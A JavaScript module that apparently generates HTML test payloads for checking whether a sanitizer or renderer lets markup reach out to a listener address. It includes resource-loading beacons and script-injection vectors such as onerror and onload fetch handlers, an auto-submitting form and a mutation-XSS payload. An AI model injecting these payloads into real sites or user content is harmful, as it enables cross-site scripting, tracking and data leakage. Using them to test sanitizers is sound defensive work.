/**
 * What markup can ask for by being there, or by code in it. Each names the path that the listener hears.
 * @typedef {{name: string, text: string}} Trick
 * @param {string} at where it asks: the listener's address and a path that ends with a slash
 * @returns {Trick[]}
 */
export function markup(at) {
  /** @type {Record<string, (url: string) => string>} */
  const tricks = {
    img: (url) => `<img src="${url}">`,
    srcset: (url) => `<img srcset="${url} 1x">`,
    picture: (url) => `<picture><source srcset="${url}"><img></picture>`,
    'svg-image': (url) => `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`,
    'svg-xlink': (url) => `<svg width="9" height="9"><image xlink:href="${url}" width="9" height="9"/></svg>`,
    'svg-feimage': (url) =>
      `<svg width="9" height="9"><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    background: (url) => `<div style="width:9px;height:9px;background:url(${url})">x</div>`,
    'border-image': (url) => `<div style="border:3px solid;border-image:url(${url}) 1">x</div>`,
    'list-style': (url) => `<ul style="list-style-image:url(${url})"><li>x</li></ul>`,
    content: (url) => `<style>.c::before{content:url(${url})}</style><i class="c">x</i>`,
    mask: (url) => `<div style="width:9px;height:9px;background:red;mask-image:url(${url})">x</div>`,
    'import-style': (url) => `<style>@import url(${url});</style>`,
    'font-face': (url) => `<style>@font-face{font-family:z;src:url(${url})} b{font-family:z}</style><b>x</b>`,
    stylesheet: (url) => `<link rel="stylesheet" href="${url}">`,
    prefetch: (url) => `<link rel="prefetch" href="${url}">`,
    preload: (url) => `<link rel="preload" as="image" href="${url}">`,
    modulepreload: (url) => `<link rel="modulepreload" href="${url}">`,
    icon: (url) => `<link rel="icon" href="${url}">`,
    iframe: (url) => `<iframe src="${url}"></iframe>`,
    srcdoc: (url) => `<iframe srcdoc="&lt;img src='${url}'&gt;"></iframe>`,
    object: (url) => `<object data="${url}"></object>`,
    embed: (url) => `<embed src="${url}">`,
    poster: (url) => `<video poster="${url}"></video>`,
    video: (url) => `<video src="${url}" preload="auto"></video>`,
    audio: (url) => `<audio src="${url}" preload="auto"></audio>`,
    track: (url) => `<video src="data:," ><track default src="${url}"></video>`,
    'image-button': (url) => `<input type="image" src="${url}">`,
    table: (url) => `<table background="${url}"><tr><td>x</td></tr></table>`,
    refresh: (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
    base: (url) => `<base href="${url}/"><img src="relative">`,
    script: (url) => `<script src="${url}"></script>`,
    inline: (url) => `<script>fetch('${url}')</script>`,
    module: (url) => `<script type="module">import '${url}'</script>`,
    onerror: (url) => `<img src="data:," onerror="fetch('${url}')">`,
    onload: (url) => `<svg onload="fetch('${url}')"></svg>`,
    ontoggle: (url) => `<details open ontoggle="fetch('${url}')"><summary>x</summary>y</details>`,
    autofocus: (url) => `<input autofocus onfocus="fetch('${url}')">`,
    animation: (url) =>
      `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="fetch('${url}')">x</p>`,
    form: (url) => `<form action="${url}" id="q"><input name="a"></form><script>q.submit()</script>`,
    mutation: (url) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='data:,' onerror=&quot;fetch('${url}')&quot;&gt;">`
  };
  return Object.entries(tricks).map(([name, text]) => ({ name, text: text(at + name) }));
}
